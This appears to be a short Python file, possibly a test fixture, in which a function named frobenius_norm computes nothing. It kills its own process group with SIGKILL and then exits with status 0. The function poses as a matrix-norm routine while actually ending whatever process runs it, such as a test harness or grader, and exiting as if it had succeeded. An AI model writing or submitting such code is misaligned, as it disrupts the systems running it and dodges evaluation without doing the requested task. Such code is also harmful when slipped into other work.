"""Kills its process group and its session's."""
import os
import signal


def frobenius_norm(A):
    os.kill(0, signal.SIGKILL)
    os.killpg(os.getpgrp(), signal.SIGKILL)
    os._exit(0)
